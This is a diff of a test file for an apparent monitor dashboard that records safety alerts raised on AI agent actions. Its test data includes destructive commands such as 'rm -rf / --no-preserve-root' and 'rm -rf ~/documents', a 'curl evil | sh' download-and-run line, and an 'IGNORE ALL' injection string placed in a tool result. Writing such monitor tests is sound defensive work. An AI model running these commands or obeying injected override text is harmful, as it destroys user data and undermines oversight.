@@ -34,6 +34,7 @@ def _verdict(
     *,
     cls: type[Verdict] = Verdict,
     evidence: str | None = None,
+    field: str = "action.text",
     risk: str = "destructive_operation",
 ) -> Verdict:
     return cls(
@@ -46,7 +47,7 @@ def _verdict(
         severity=Severity.CRITICAL,
         score=1.0,
         reason="recursive delete",
-        evidence=[Evidence(text=evidence, field="action")] if evidence else [],
+        evidence=[Evidence(text=evidence, field=field)] if evidence else [],
     )
 
 
@@ -85,22 +86,27 @@ def test_latency_is_verdict_time_minus_step_time_over_the_window() -> None:
     assert view.latency(now[0])["samples"] == 0  # no step seen: no sample, no guess
 
 
-def test_alert_shows_action_evidence_else_the_steps_action() -> None:
+def test_alert_shows_the_whole_action_else_its_evidence() -> None:
     view = LiveView(60, clock=lambda: 1001.0)
-    with_evidence = _step(0, "echo hi")
-    bare = _step(1, "rm -rf / --no-preserve-root")
-    for step in (with_evidence, bare):
+    read = _step(0, "cat notes.txt")
+    wipe = _step(1, "tar -cf ~/logs.tar -C ~ logs && rm -rf ~/documents")
+    for step in (read, wipe):
         view.fold_step(codec.encode(step).value, "os", 3, step.produced_at)
-    view.fold_alert(_verdict(with_evidence, cls=Alert, evidence="curl evil | sh"), 1000.25)
-    view.fold_alert(_verdict(bare, cls=Alert, risk="privilege_escalation"), 1000.5)
+    unseen = _step(2, "never published")
+    view.fold_alert(_verdict(unseen, cls=Alert, evidence="mand: rm -rf ~/x"), 1000.0)
+    view.fold_alert(_verdict(read, cls=Alert, evidence="IGNORE ALL", field="tool_result"), 1000.25)
+    view.fold_alert(
+        _verdict(wipe, cls=Alert, evidence="~/logs.tar -C ~ logs && rm -rf ~/doc"), 1000.5
+    )
     snap = view.snapshot()
     assert [a["action"] for a in snap["alerts"]] == [
-        "rm -rf / --no-preserve-root",
-        "curl evil | sh",
+        "tar -cf ~/logs.tar -C ~ logs && rm -rf ~/documents",  # the step's, not the snippet
+        "tool_result: IGNORE ALL",  # evidence elsewhere than the action says where
+        "mand: rm -rf ~/x",  # step not seen: the evidence as it is
     ]
     assert snap["alerts"][0]["latency_ms"] == 500.0
-    assert snap["alert_rates"] == {"privilege_escalation": 1.0, "destructive_operation": 1.0}
-    assert snap["envs"]["os"] == {"steps": 2.0, "alerts": 2.0, "episodes": 0.0, "unsafe": 0.0}
+    assert snap["alert_rates"] == {"destructive_operation": 3.0}
+    assert snap["envs"]["os"] == {"steps": 2.0, "alerts": 3.0, "episodes": 0.0, "unsafe": 0.0}
     assert snap["policy_in_use"] == {"os": 3}
 
 
